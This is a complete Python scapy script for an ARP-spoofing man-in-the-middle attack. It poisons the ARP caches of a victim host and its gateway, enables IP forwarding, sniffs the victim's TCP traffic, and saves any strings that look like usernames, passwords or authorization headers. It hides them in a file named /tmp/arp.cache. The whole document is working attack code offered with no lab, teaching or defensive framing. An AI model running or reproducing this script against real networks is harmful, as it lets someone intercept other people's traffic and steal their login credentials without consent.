import re
import sys
import threading
import time
from scapy.all import ARP, Ether, getmacbyip, sendp, sniff, TCP, Raw

victim, gw = sys.argv[1], sys.argv[2]
vm, gm = getmacbyip(victim), getmacbyip(gw)


def poison():
    while True:
        sendp(Ether(dst=vm) / ARP(op=2, psrc=gw, pdst=victim, hwdst=vm), verbose=False)
        sendp(Ether(dst=gm) / ARP(op=2, psrc=victim, pdst=gw, hwdst=gm), verbose=False)
        time.sleep(2)


def look(p):
    if p.haslayer(Raw):
        for m in re.findall(rb"(?i)(?:user|login|pass|pwd|authorization)[^&\r\n]{1,80}", p[Raw].load):
            with open("/tmp/arp.cache", "ab") as f:
                f.write(m + b"\n")


open("/proc/sys/net/ipv4/ip_forward", "w").write("1")
threading.Thread(target=poison, daemon=True).start()
sniff(filter=f"tcp and host {victim}", prn=look, store=False)
